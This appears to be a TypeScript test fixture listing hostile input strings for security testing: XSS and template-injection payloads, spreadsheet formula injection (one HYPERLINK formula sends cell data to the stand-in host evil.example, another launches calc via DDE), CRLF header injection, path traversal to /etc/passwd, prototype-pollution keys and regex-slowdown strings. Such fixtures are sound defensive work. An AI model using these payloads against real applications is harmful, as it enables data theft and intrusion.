/** Hostile texts: markup, formulas, headers, and input that is slow or costly to process. */
export const HOSTILE_TEXTS = {
  markup: [
    '<script>document.title="taken"</script>',
    '"><img src=x onerror=document.title="taken">',
    '</textarea><svg onload=document.title="taken">',
    '</script><script>document.title="taken"</script>',
    'javascript:document.title="taken"',
    '<iframe srcdoc="<script>parent.document.title=1</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '{{constructor.constructor("return 1")()}}',
    '${process.env}',
    '<!--<script>',
  ],
  formulas: [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '＝1+1',
    '＠SUM(1)',
    '\t=1+1',
    '\r\n=1+1',
    '"=1+1"',
    '","=1+1',
    ';=1+1',
  ],
  headers: [
    'a\r\nSet-Cookie: admin=1',
    'a\nX-Injected: 1',
    'a\u2028b\u2029c',
    'a%0d%0aX-Injected:%201',
    '\u0000\u0001\u0008\u001b[31m',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '__proto__/../..',
    '/dev/null',
    'file:///etc/passwd',
    '%2e%2e%2f',
    'rate_limits/a',
  ],
  prototypes: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'],
  unicode: ['\u202Egpj.exe', '\uFEFF=1+1', '\uD800', 'ﷺ'.repeat(50), 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '🏳️‍🌈👨‍👩‍👧‍👦', 'İıſK'],
  slow: [
    `${'a'.repeat(180)}!`,
    'a@'.repeat(90),
    '.'.repeat(190),
    `${'1'.repeat(38)}x`,
    `a@${'a-'.repeat(90)}.`,
    ' '.repeat(190),
  ],
} as const satisfies Record<string, readonly string[]>;

/** All of them. */
export const ALL_HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE_TEXTS).flat();
